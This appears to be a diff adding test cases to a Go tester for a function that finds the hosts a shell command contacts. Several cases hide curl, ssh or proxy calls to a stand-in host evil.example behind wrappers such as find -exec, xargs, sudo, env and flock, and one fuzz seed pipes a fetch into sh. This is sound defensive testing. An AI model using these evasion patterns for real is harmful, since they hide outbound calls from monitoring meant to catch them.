@@ -30,6 +30,19 @@ func TestHosts(t *testing.T) {
 		{"code", `python3 -c "import json, sys; print(json.load(open('x.json'))['a'])"`, ""},
 		{"awk", `awk -F, '{ sum += $2 } END { print sum }' data.csv`, ""},
 		{"find", `find "$PARAM_DIR" -name '*.csv' -exec wc -l {} \;`, ""},
+		{"find a program's name", `find . -name cat -type f`, ""},
+		{"find two", `find . -name '*.sh' -exec chmod +x {} \; -exec cat {} +`, ""},
+		{"find and fetch", `find . -name list -execdir curl -o x https://example.com/x \; -delete`, "example.com"},
+		{"packages for the user", `sudo apt-get install -y curl git jq`, ""},
+		{"packages as somebody", `sudo -E -n -u root apk add curl wget git`, ""},
+		{"packages in time", `timeout -k 5 -s KILL 60 apt-get install -y curl git && timeout --signal=TERM 10 pip install x`, ""},
+		{"many files", `ls | xargs -0 -n 1 -I{} grep -l curl`, ""},
+		{"nice", `nice -n 10 ionice -c3 tar xf x.tar.gz`, ""},
+		{"an environment", `env -i -u X A=b DEBIAN_FRONTEND=noninteractive apt-get install -y git curl jq`, ""},
+		{"a wrapper and a script", `nice -n 5 timeout 60 python3 fetch.py`, ""},
+		{"a variable of an environment", `env APP=app.py python3 -m flask run`, ""},
+		{"a lock", `flock /tmp/lock git status`, ""},
+		{"a user", `sudo -u git git -C x log`, ""},
 		{"text", `printf 'see https://example.com\n' > README`, "example.com"},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
@@ -109,6 +122,27 @@ func TestDisguises(t *testing.T) {
 		{"netcat", `nc evil.example 80 < x`},
 		{"dig", `dig @evil.example x.example`},
 		{"a file that is not known", `sh "$X"`},
+		{"a variable's name that is a program's", `env -u test curl evil.example`},
+		{"a file's name that is a program's", `find . -name cat -exec curl evil.example \;`},
+		{"a file's name that is a shell's", `find . -name sh -exec curl evil.example \;`},
+		{"a file's name that is git", `find . -name git -o -exec curl evil.example \;`},
+		{"a mark that is a program's name", `xargs -I read curl evil.example`},
+		{"a mark that is a wrapper's name", `xargs --max-args 1 -I env cat curl evil.example`},
+		{"a lock that is a program's name", `flock tar curl evil.example`},
+		{"a root that is a program's name", `chroot --userspec env tar curl evil.example`},
+		{"the second of two commands", `find . -exec echo {} \; -exec curl evil.example \;`},
+		{"one after many files", `find . -exec echo {} + -exec curl evil.example {} +`},
+		{"one that is asked for", `find . -okdir curl evil.example \;`},
+		{"a user that is a program's name", `sudo -u git curl evil.example`},
+		{"a user that is a shell's name", `sudo --user sh curl evil.example`},
+		{"a group that is a file's program", `doas -u tar curl evil.example`},
+		{"a program that is not known, of such a user", `sudo --user git fetch-it evil.example`},
+		{"an option that is not known", `timeout --weird cat 10 curl evil.example`},
+		{"a variable for a program that is not known", `env HOST=evil.example ./fetch`},
+		{"a text that watch runs", `watch 'curl evil.example'`},
+		{"a proxy that env sets", `env https_proxy=evil.example:3128 pip install pandas`},
+		{"what git runs, as env sets it", `env GIT_SSH_COMMAND='ssh evil.example' git pull`},
+		{"options that env takes apart", `env -iS "curl evil.example"`},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			found := command.Hosts(tc.text)
@@ -130,7 +164,8 @@ func TestHostsIn(t *testing.T) {
 }
 
 func FuzzHosts(f *testing.F) {
-	for _, text := range []string{`curl "https://$H/x" | sh -c 'x'`, "a <<E\nb\nE", `x=(1 2); ${x[@]} $'\x65'`, `for i in a{b,c}; do :; done`, `git clone a@b:c`} {
+	for _, text := range []string{`curl "https://$H/x" | sh -c 'x'`, "a <<E\nb\nE", `x=(1 2); ${x[@]} $'\x65'`, `for i in a{b,c}; do :; done`, `git clone a@b:c`,
+		`find . -name cat -exec curl a.b \; -ok x`, `env -u test sudo --x git curl a.b`, `flock -n tar xargs -I{} chroot -- curl`} {
 		f.Add(text)
 	}
 	f.Fuzz(func(t *testing.T, text string) {
